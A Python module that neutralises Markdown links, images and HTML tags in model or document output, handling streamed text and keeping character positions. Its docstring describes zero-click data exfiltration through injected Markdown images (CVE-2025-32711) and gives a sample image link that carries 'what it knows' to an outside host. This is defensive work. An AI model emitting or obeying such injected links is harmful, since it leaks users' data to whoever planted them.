"""What a model or a document says -> the same words, of which no page makes a picture, a link or markup.

A document can ask for ![x](https://somewhere/?what=it+knows), and a page that renders Markdown would fetch it: what
was read leaves, and nobody clicked (CVE-2025-32711). Every character stays in its place, so that ranges into the text
still hold. It does not know where text comes from or goes to.
"""

from __future__ import annotations

import re

_DEFINITION = re.compile(r" {0,3}!?\[[^\]\n]*\]")
_INSTEAD = "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}"


class Plain:
    """For text that comes in pieces, which may part anywhere."""

    def __init__(self) -> None:
        self._line = ""
        self._held = ""

    def feed(self, piece: str) -> str:
        """The next words, made plain; a last "<" waits for what follows it."""
        text, self._held = self._held + piece, ""
        if text.endswith("<"):
            text, self._held = text[:-1], "<"
        return "".join(self._made(one, text[at + 1 : at + 2] or self._held) for at, one in enumerate(text))

    def end(self) -> str:
        """What still waits."""
        held, self._held = self._held, ""
        return held

    def _made(self, one: str, following: str) -> str:
        before, self._line = self._line, "" if one == "\n" else self._line + one
        if one == "(" and before.endswith("]"):  # [text](address), and with a ! before it a picture
            return " "
        if one == ":" and _DEFINITION.fullmatch(before):  # [name]: address
            return " "
        if one == "<" and (following.isalpha() or following in ("/", "!", "?")):
            return _INSTEAD
        return one


def plain(text: str) -> str:
    """A whole text.

    >>> plain("See ![a](https://x.example/?q=1), [b](https://y.example) or <img src=x>: 3 < 4.")
    'See ![a] https://x.example/?q=1), [b] https://y.example) or ‹img src=x>: 3 < 4.'
    """
    made = Plain()
    return made.feed(text) + made.end()
